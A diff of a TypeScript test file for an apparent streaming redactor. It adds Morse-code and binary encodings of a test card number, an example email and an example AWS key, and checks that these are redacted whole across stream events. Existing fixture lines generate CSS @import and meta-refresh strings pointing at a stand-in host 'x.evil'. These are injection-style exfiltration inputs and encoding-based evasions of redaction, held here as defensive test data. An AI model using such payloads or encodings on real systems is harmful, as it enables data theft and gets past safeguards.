@@ -7,6 +7,7 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import fc from 'fast-check';
+import { binary, morse } from '../fixtures/encodings.ts';
 import type { DetectionContext, Detector, Finding } from '../../src/core/types.ts';
 import { buildDetector } from '../../src/detectors/registry.ts';
 import { gapBoundary, holdPlan, placeholderHold } from '../../src/detectors/hold.ts';
@@ -216,6 +217,11 @@ const ENTITY = fc.oneof(
   chars('abcdefgh', 3, 10).map((q) => `<style>@import "https://x.evil/${q}.css";</style>`),
   chars('abcdefgh', 3, 10).map((q) => `<meta http-equiv="refresh" content="0;url=https://x.evil/${q}">`),
   fc.constantFrom('url(/img.png)', 'AT&T', 'a &amp; b', 'url(', 'the url(s)', '@import', '&#58', '&colo'),
+  // Entities the normaliser decodes from Morse code and eight-bit groups (a run still growing is held,
+  // hold.ts decodeHold), and Morse-like punctuation next to words.
+  fc.constantFrom(morse('4111111111111111'), morse('jane.doe@example.com'), morse('call 415 555 0134', ' ', ' | '), binary('jane.doe@example.com'),
+    binary('AKIAIOSFODNN7EXAMPLE', ''), morse('please write to jane.doe@example.com or call 415 555 0134 today'),
+    binary('please write to jane.doe@example.com today'), 'wait... -- .- -. -.. then', '- - - - - -', '.- -... -.-. -.. .'),
 );
 const SEP = fc.constantFrom(' ', ' ', ' ', '\n', '. ', ', ', '\n\n', ': ');
 const TEXT = fc.array(fc.tuple(fc.oneof({ weight: 3, arbitrary: WORD }, { weight: 1, arbitrary: ENTITY }), SEP), { minLength: 1, maxLength: 40 })
@@ -310,6 +316,19 @@ test('ordinary prose is released close behind the input', () => {
   assert.ok(plan.lag < 200);
   // The fixed hold-back would have kept ~2,100 characters.
   assert.ok(plan.maxMatchLength > 2000);
+});
+
+test('a card number spelled in a long run of Morse code or eight-bit groups is redacted whole, in events of any size', () => {
+  // The runs are longer than PII's own hold lag: the decoded view's hold (hold.ts decodeHold) keeps a run
+  // back until it ends, since the number, and so the finding over the whole run, appears only at its end.
+  const redact = redactorFor(DEFAULT_DETECTORS);
+  for (const run of [morse('the card we have on file for you is 4111111111111111 thanks'), binary('the card on file is 4111111111111111')]) {
+    assert.ok(run.length > holdPlan(DEFAULT_DETECTORS).lag + 50);
+    const text = `Here it is: ${run} (decoded for you).`;
+    const expected = redactWhole(redact, text);
+    assert.equal(expected, 'Here it is: [CREDIT_CARD] (decoded for you).');
+    assertStreamsAsWhole(DEFAULT_DETECTORS, text, expected);
+  }
 });
 
 test('a long JWT and a PEM block split across many small events are redacted whole', () => {
